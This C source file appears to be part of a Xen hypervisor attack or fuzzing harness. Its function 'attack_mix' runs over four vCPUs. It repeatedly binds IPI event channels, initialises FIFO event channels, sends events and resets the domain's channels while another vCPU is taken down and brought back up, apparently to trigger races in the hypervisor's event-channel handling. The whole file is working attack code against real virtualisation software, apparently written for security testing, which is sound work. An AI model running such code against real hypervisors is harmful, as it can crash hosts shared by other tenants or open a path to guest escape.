/* Four vCPUs: ports bound, converted to FIFO, reset and sent to at once; one vCPU goes down and up. */
#include "attack.h"

static volatile u32 port;

static void send_always(u32 me) {
    (void)me;
    while (!stop) { u32 p = port; hypercall(HYPERVISOR_event_channel_op, EVTCHNOP_send, (u64)&p, 0, 0); }
}
static void down_and_up(u32 me) {
    (void)me;
    while (!stop) {
        hypercall(HYPERVISOR_vcpu_op, VCPUOP_down, 3, 0, 0);
        hypercall(HYPERVISOR_vcpu_op, VCPUOP_up, 3, 0, 0);
    }
}
static void spin(u32 me) { (void)me; while (!stop) asm volatile("pause"); }

void attack_mix(void) {
    if (vcpus_online > 1) give_job(1, send_always);
    if (vcpus_online > 2) give_job(2, down_and_up);
    if (vcpus_online > 3) give_job(3, spin);
    u64 rounds = 0;
    for (u64 end = now() + option("seconds", 3) * 1000000000; now() < end; rounds++) {
        struct { u32 vcpu, port; } ipi = {1, 0};
        hypercall(HYPERVISOR_event_channel_op, EVTCHNOP_bind_ipi, (u64)&ipi, 0, 0);
        port = ipi.port;
        struct { u64 gfn; u32 offset, vcpu; u64 links; } control = {mfn_of(pool[30]), 0, rounds & 1, 0};
        hypercall(HYPERVISOR_event_channel_op, 11, (u64)&control, 0, 0);
        u64 array = mfn_of(pool[31]);
        hypercall(HYPERVISOR_event_channel_op, 12, (u64)&array, 0, 0);
        hypercall(HYPERVISOR_event_channel_op, EVTCHNOP_send, (u64)&ipi.port, 0, 0);
        u16 self = DOMID_SELF;
        hypercall(HYPERVISOR_event_channel_op, 10, (u64)&self, 0, 0);
    }
    stop = 1;
    /* Its console's port is gone with the rest. */
    hypercall(HYPERVISOR_console_io, 0, 9, (u64)"MIX done\n", 0);
}
